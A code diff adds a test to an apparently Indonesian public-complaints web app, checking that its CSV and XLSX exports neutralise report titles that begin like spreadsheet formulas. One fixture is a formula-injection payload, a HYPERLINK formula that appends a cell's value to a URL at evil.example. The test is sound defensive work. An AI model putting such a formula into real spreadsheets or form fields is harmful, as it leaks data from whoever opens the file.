@@ -95,6 +95,29 @@ def test_the_exports_give_every_time_in_one_zone_and_name_it(world, client):
     assert cells[1] == datetime.datetime(2026, 11, 23, 7, 38) and cells[-1] == "WIB"
 
 
+def test_a_title_typed_as_a_formula_is_text_in_both_exports(world, client):
+    """A citizen's title that starts like a formula opens as the words typed: not a link
+    that sends the sheet's cells to another site when the leadership clicks it."""
+    import zipfile
+
+    from lapor.reports import services
+
+    typed = '=HYPERLINK("http://evil.example/x?"&A1,"Klik untuk detail")'
+    for title in (typed, "+62 811 jalan rusak", "-- lampu mati"):
+        report = services.report_submit(reporter=world.citizen, title=title, body="Sejak Senin.",
+                                        addressed_agency=world.pemkot)
+        services.report_verify(report=report, by=world.agency_admin, agency=world.pupr)
+
+    text = b"".join(client.get("/statistik/laporan.csv").streaming_content).decode("utf-8-sig")
+    titles = {row[2] for row in csv.reader(io.StringIO(text))}
+    assert {"'" + typed, "'+62 811 jalan rusak", "'-- lampu mati"} <= titles
+    content = client.get("/statistik/laporan.xlsx").content
+    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet  # no formula in the file at all
+    cells = {row[2] for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2, values_only=True)}
+    assert typed in cells and "+62 811 jalan rusak" in cells  # in a spreadsheet, the title as typed
+
+
 def test_filters_that_cannot_be_used_are_named_on_the_page_and_refused_by_the_exports(stories, world, client):
     """A stale or mistyped link still shows the page, and says which filters it left out;
     an export with them is refused rather than a file of reports nobody chose."""
